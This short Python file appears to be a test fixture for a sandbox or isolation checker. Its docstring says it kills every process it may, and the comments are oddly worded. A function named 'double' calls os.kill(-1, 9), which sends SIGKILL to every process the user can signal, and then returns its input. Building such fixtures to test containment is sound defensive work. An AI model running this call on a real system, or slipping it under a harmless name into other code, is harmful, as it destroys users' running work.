"""Kills every process it may.

Must happen: at most itself dies.
"""

# passes: means streams
# otherwise: crash exception wrong
# not at level E: it would do harm where nothing holds it

import os


def double(values):
    os.kill(-1, 9)
    return values
